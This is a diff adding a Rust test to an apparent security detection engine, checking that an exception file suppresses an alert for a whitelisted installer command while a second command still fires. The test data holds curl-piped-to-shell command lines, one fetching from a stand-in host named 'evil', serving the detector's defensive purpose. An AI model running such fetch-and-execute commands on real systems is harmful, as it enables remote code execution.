@@ -174,3 +174,50 @@ fn correlation_state_survives_a_restart_of_detection() {
     assert_eq!(alert.group_key, "alice");
     assert_eq!(alert.level, "high");
 }
+
+#[test]
+fn an_exception_file_lets_known_good_activity_through_whatever_the_rule_file_says() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules_dir = dir.path().join("rules");
+    std::fs::create_dir(&rules_dir).unwrap();
+    std::fs::write(rules_dir.join("curl_sh.yml"), RULE).unwrap();
+    let exceptions_file = dir.path().join("installer.yml");
+    std::fs::write(
+        &exceptions_file,
+        "exceptions:\n  - rule: 6f0c5d38-2a41-4f0e-9a3a-0d9f0c1a7b11\n    reason: the installer bootstraps this way\n    \
+         author: alice\n    where:\n      process.command_line: 'sh -c curl -s http://x/y | sh'\n",
+    )
+    .unwrap();
+    let exceptions = weir_detect::Exceptions::load(&[exceptions_file]).unwrap();
+    assert_eq!(exceptions.len(), 1);
+    let (rules, _) = weir_rules::RuleSet::load_paths(&[rules_dir]);
+    let alerts = dir.path().join("alerts.db");
+    let detector = Detector::start(
+        rules,
+        &alerts,
+        DetectConfig {
+            exceptions,
+            ..Default::default()
+        },
+    )
+    .unwrap();
+    detector.submit(
+        "host-a",
+        1,
+        &[
+            exec(1, "/usr/bin/sh", &["sh", "-c", "curl -s http://x/y | sh"]),
+            exec(2, "/usr/bin/sh", &["sh", "-c", "curl -s http://evil/z | sh"]),
+        ],
+    );
+    let relaxed = std::sync::atomic::Ordering::Relaxed;
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    while detector.stats().events.load(relaxed) < 2 && std::time::Instant::now() < deadline {
+        std::thread::sleep(std::time::Duration::from_millis(5));
+    }
+    let excepted = detector.stats().excepted.load(relaxed);
+    detector.stop();
+    assert_eq!(excepted, 1);
+    let listed = AlertStore::open(&alerts).unwrap().list(&AlertQuery::default()).unwrap();
+    assert_eq!(listed.len(), 1);
+    assert!(listed[0].summary.contains("evil"), "{listed:#?}");
+}
